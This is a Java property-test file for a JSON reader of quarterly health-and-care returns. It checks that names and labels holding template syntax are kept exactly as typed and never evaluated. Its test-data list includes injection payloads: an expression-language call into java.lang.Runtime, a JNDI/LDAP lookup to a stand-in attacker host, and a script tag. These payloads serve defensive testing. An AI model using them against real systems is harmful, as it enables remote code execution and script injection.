package dev.bcfkit.json.hostile;

import static dev.bcfkit.json.hostile.ReaderContract.STRICT;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.bcfkit.core.Text;
import dev.bcfkit.core.returns.QuarterlyReturn;
import dev.bcfkit.json.BcfParseException;
import dev.bcfkit.testkit.seeds.SampleDocument;
import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * User text is data, never a template (docs/SECURITY.md): expression-language and message-template
 * syntax ({@code ${1+1}}, {@code #{1+1}}, {@code {jakarta.validation.constraints.NotNull.message}},
 * {@code ${''.getClass().forName('java.lang.Runtime')}}, {@code %s}, {@code {0}}) in a name or a
 * narrative of Nottinghamshire's 2017/18 Q2 return ({@code [000]}) is read, written and quoted in
 * the reader's messages exactly as typed.
 */
class VerbatimTextProperties {
    /** Template and expression syntax of Jakarta EL, Spring EL, Bean Validation, Formatter and MessageFormat. */
    static final List<String> TEMPLATES = List.of("${1+1}", "#{1+1}",
            "{jakarta.validation.constraints.NotNull.message}", "${''.getClass().forName('java.lang.Runtime')}",
            "${validatedValue}", "{validatedValue}", "\\${1+1}", "$${1+1}", "%s%n%d", "{0}", "{max}",
            "${jndi:ldap://attacker.invalid/a}", "<script>alert(1)</script>", "@class", "java.lang.Runtime");

    private static final JsonMapper QUOTE = JsonMapper.builder().build();
    private static final String NOTTINGHAMSHIRE = SampleTexts.of(SampleDocument.NOTTINGHAMSHIRE_2017_18_Q2);
    private static final String COMPLETED_BY = "\"completedBy\": \"Joanna Cooper\"";
    private static final String SECTION_75 = "\"pooledViaSection75\": \"Yes\"";

    private static String json(String text) {
        try {
            return QUOTE.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] withCompletedBy(String text) {
        return NOTTINGHAMSHIRE.replace(COMPLETED_BY, "\"completedBy\": " + json(text)).getBytes(StandardCharsets.UTF_8);
    }

    @Example
    void aDollarTemplateInTheCoverIsReadAndWrittenAsTyped() {
        QuarterlyReturn r = STRICT.read(withCompletedBy("${1+1}"), QuarterlyReturn.class);
        assertEquals("${1+1}", r.cover().completedBy());
        String written = STRICT.writeString(r);
        assertTrue(written.contains("\"completedBy\": \"${1+1}\","), written);
    }

    @Example
    void aMessageKeyWhereALabelBelongsIsQuotedNotExpanded() {
        String key = "{jakarta.validation.constraints.NotNull.message}";
        byte[] bytes = NOTTINGHAMSHIRE.replace(SECTION_75, "\"pooledViaSection75\": " + json(key))
                .getBytes(StandardCharsets.UTF_8);
        BcfParseException e = assertThrows(BcfParseException.class, () -> STRICT.readDocument(bytes, "notts.json"));
        assertEquals("expected one of \"Yes\", \"No\", found \"" + key + "\"", e.problem());
    }

    @Property(tries = 300)
    void hostileTextInANameComesBackAsTyped(@ForAll("hostileText") String text) {
        QuarterlyReturn r = (QuarterlyReturn) ReaderContract.readOrRefuse(STRICT, withCompletedBy(text), "notts.json");
        assertEquals(text, r.cover().completedBy());
        String written = STRICT.writeString(r);
        for (String template : TEMPLATES) {
            if (text.contains(template)) {
                assertTrue(written.contains(template), () -> template + " written as typed in " + written);
            }
        }
    }

    @Property(tries = 300)
    void hostileTextWhereALabelBelongsIsQuotedAsTypedInTheRefusal(@ForAll("hostileText") String text) {
        byte[] bytes = NOTTINGHAMSHIRE.replace(SECTION_75, "\"pooledViaSection75\": " + json(text))
                .getBytes(StandardCharsets.UTF_8);
        BcfParseException e = assertThrows(BcfParseException.class, () -> STRICT.readDocument(bytes, "notts.json"));
        assertEquals("/budgetArrangements/pooledViaSection75", e.pointer());
        assertEquals("expected one of \"Yes\", \"No\", found \"" + Text.abbreviate(text) + "\"", e.problem());
    }

    @Provide
    Arbitrary<String> hostileText() {
        Arbitrary<String> piece = Arbitraries.oneOf(Arbitraries.of(TEMPLATES),
                Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(8), Arbitraries.of(" ", "\n", "\t", "\u00a3",
                        "\u202e", "\u0000", "\ud83d\ude00"));
        return piece.list().ofMinSize(1).ofMaxSize(6).map(pieces -> String.join("", pieces))
                .filter(s -> !s.equals("Yes") && !s.equals("No"));
    }
}
